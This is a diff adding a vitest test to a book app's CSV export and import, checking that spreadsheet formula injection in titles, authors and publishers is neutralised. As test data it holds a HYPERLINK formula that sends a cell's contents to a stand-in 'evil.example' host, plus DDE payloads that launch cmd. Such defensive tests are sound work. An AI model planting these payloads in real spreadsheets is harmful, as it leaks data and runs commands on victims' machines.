@@ -1,3 +1,4 @@
+import { parse } from "csv-parse/sync";
 import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
 import { GOODREADS_HEADER } from "../../worker/services/import-csv";
 import { createBook, signedInMember } from "../helpers/fixtures";
@@ -58,6 +59,35 @@ describe("GET /api/my-books/export", () => {
     // And into the same account: every book is already there.
     const again = await startImport(csv, alice.cookie, ["owned"]);
     expect(again.body.data).toMatchObject({ state: "done", addedBooks: 0, duplicateRows: 3 });
+  });
+
+  it("neutralises formulas in titles, authors and publishers, in the download and in failed.csv", async () => {
+    const member = await signedInMember();
+    await createBook(member.user.id, {
+      title: '=HYPERLINK("https://evil.example/?leak="&B2,"Open")',
+      author: "@SUM(1+1)",
+      publisher: "+cmd|' /C calc'!A0",
+      isbn13: "9780141439587",
+    });
+    const download = await call("/api/my-books/export?format=csv", { cookie: member.cookie });
+    const [header, ...rows] = parse(await download.text()) as string[][];
+    const cell = (name: string) => rows[0]![header!.indexOf(name)];
+    expect(cell("Title")).toBe(`'=HYPERLINK("https://evil.example/?leak="&B2,"Open")`);
+    expect(cell("Author")).toBe("'@SUM(1+1)");
+    expect(cell("Publisher")).toBe("'+cmd|' /C calc'!A0");
+    // Goodreads' own ISBN formula stays as it is.
+    expect(cell("ISBN13")).toBe('="9780141439587"');
+
+    // A failed row of an imported file echoes its title and author.
+    const goodreadsHeader = GOODREADS_HEADER.join(",");
+    const file = `${goodreadsHeader}\r\n1,"-2+3+cmd|' /C calc'!A0",Someone\r\n2,,"=1+1",,,,,,,,,,,,,,,,read,,,,,0\r\n3,Fine,Author,,,,,,,,,,,,,,owned,,read,,,,,1\r\n`;
+    const { body } = await startImport(file, member.cookie, ["owned"]);
+    const failed = await call(`/api/imports/${body.data!.jobId}/failed.csv`, { cookie: member.cookie });
+    expect(parse(await failed.text())).toEqual([
+      ["Line", "Title", "Author", "ISBN13", "Reason"],
+      ["2", "'-2+3+cmd|' /C calc'!A0", "", "", "Expected 24 fields, found 3"],
+      ["3", "", "'=1+1", "", "No title"],
+    ]);
   });
 
   it("is rate-limited per member (429 in the envelope)", async () => {
